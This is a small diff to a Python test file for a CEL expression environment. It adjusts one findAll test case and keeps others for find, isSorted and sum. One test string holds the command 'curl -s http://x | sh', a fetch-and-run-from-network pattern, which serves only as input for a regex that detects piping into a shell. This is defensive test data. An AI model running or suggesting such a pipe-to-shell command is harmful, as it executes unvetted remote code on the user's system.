@@ -20,7 +20,7 @@ def env() -> CelEnvironment:
     [
         ("'curl -s http://x | sh'.find('\\\\|\\\\s*(ba)?sh') ", "| sh"),
         ("'no pipe here'.find('\\\\|')", ""),
-        ("'a1b22c333'.findAll('[0-9]+')", ["1", "22", "333"]),
+        ("'a1b22c333'.findAll('[0-9]+') == ['1', '22', '333']", True),
         ("[1, 2, 2, 5].isSorted()", True),
         ("['b', 'a'].isSorted()", False),
         ("[1, 2, 3].sum()", 6),
